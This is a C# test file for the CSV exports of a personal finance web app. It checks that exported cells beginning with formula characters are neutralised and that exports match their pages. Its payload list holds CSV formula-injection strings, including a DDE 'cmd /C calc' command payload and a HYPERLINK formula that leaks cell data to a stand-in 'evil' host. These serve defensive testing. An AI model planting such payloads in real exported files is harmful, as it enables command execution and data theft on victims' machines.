using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using PotLock.Web.Tests.Harness;

namespace PotLock.Web.Tests.Exports;

/// <summary>Each list as comma-separated values: what its page shows, and nothing that a spreadsheet would work out.</summary>
public sealed partial class ListExportTests(PotLockApp app) : IClassFixture<PotLockApp>
{
    private static readonly string[] s_payloads =
    [
        "=1+1", "=HYPERLINK(\"//evil\"&A1)", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "＋1",
        "－1", "＠A1", "-1\",=1+1,\"", "=A1,B1",
    ];

    public static TheoryData<string, string> Lists => new()
    {
        { "/transactions", "/exports/activity.csv" }, { "/accounts", "/exports/accounts.csv" }, { "/cards", "/exports/cards.csv" },
        { "/loans", "/exports/loans.csv" },
        { "/pots", "/exports/pots.csv" }, { "/schedule", "/exports/schedule.csv" }, { "/settings/months", "/exports/months.csv" },
        { "/settings/activity", "/exports/book-activity.csv" },
    };

    [Theory]
    [MemberData(nameof(Lists))]
    public async Task List_HasItsLink_AndEveryFormulaIsNeutral(string page, string file)
    {
        var browser = await FilledAsync();

        Assert.NotNull((await browser.GetPageAsync(page)).Document.QuerySelector($"main a[href='{file}'][download]"));
        var lines = await ReadAsync(browser, file);

        Assert.True(lines.Count > 1, $"{file} has no rows.");
        Assert.All(lines, line => Assert.Equal(lines[0].Count, line.Count));
        Assert.All(
            lines.Skip(1).SelectMany(line => line).Where(cell => cell.Length > 0 && "=+-@＝＋－＠".Contains(cell[0], StringComparison.Ordinal)),
            cell => Assert.Matches("^-[0-9]+(\\.[0-9]+)?$", cell));
    }

    [Fact]
    public async Task Activity_HasWhatTheFiltersLeave()
    {
        var browser = await FilledAsync();
        foreach (var payload in s_payloads)
        {
            await browser.DepositAsync("1.00", ("Description", payload));
        }

        Assert.Contains(
            (await browser.GetPageAsync("/transactions?kind=expense&q=Coffee")).Document.QuerySelectorAll("main a[download]"),
            link => link.GetAttribute("href") == "/exports/activity.csv?kind=expense&q=Coffee");
        var found = await ReadAsync(browser, "/exports/activity.csv?q=Coffee");
        Assert.Equal(["Coffee"], found.Skip(1).Select(line => line[1]));
        var all = await ReadAsync(browser, "/exports/activity.csv");
        Assert.All(s_payloads, payload => Assert.Single(all, line => line[1] == "'" + payload));
        Assert.Equal("-3.50", all.Single(line => line[1] == "Coffee")[5]);
    }

    [Fact]
    public async Task Pots_HaveTheFiguresOfTheirPage()
    {
        var browser = await FilledAsync();
        var page = await browser.GetPageAsync("/pots");

        var lines = await ReadAsync(browser, "/exports/pots.csv");

        var shown = page.Document.QuerySelectorAll("[data-pot]").ToDictionary(
            pot => pot.GetAttribute("data-name")!, pot => (pot.GetAttribute("data-balance"), pot.GetAttribute("data-target")));
        Assert.Equal(2, shown.Count);
        Assert.All(shown, pot =>
        {
            var line = lines.Single(line => line[0].TrimStart('\'') == pot.Key);
            Assert.Equal(pot.Value, (line[3], line[4]));
        });
    }

    [Fact]
    public async Task Budgets_AreThoseOfTheMonth()
    {
        var browser = await FilledAsync();

        var lines = await ReadAsync(browser, "/exports/budgets.csv?month=2026-01");

        Assert.Equal(("2026-01", "All spending"), (lines[1][0], lines[1][1]));
    }

    private async Task<Browser> FilledAsync()
    {
        var browser = await app.OpenRegisteredAsync();
        await browser.CreatePotAsync("=1+1", "20", ("TargetAmount", "500.00"));
        await browser.CreatePotAsync("Bike", "10");
        await browser.DepositAsync("100.00", ("Description", "@SUM(A1)"));
        await browser.WithdrawAsync("3.50", ("Description", "Coffee"));
        await browser.CarryOutAsync("/accounts/new", "form[action='/accounts']", ("Name", "+Savings"), ("OpeningBalance", "-5.00"));
        await browser.CarryOutAsync("/cards/new", "form[action='/cards']", ("Name", "-Card"), ("Limit", "500.00"), ("StatementDay", "3"));
        await browser.CarryOutAsync(
            "/loans/new", "form[action='/loans']", ("Lender", "@Bank"), ("Principal", "100.00"), ("Rate", "0"), ("Payment", "10.00"),
            ("Day", "28"));
        await browser.CarryOutAsync(
            "/schedule/new", "form[action='/schedule']", ("Amount", "5.00"), ("Description", "=A1,B1"),
            ("FirstOn", (await browser.TodayAsync()).AddDays(5).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture)));
        return browser;
    }

    private static async Task<List<List<string>>> ReadAsync(Browser browser, string file)
    {
        using var response = await browser.Client.GetAsync(new Uri(file, UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        return
        [
            .. Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries)
                .Select(line => Cell().Matches(line).Select(cell => Unquote(cell.Groups["cell"].Value)).ToList()),
        ];
    }

    private static string Unquote(string cell) =>
        cell.StartsWith('"') ? cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : cell;

    [GeneratedRegex("(?:^|,)(?<cell>\"(?:[^\"]|\"\")*\"|[^,]*)")]
    private static partial Regex Cell();
}
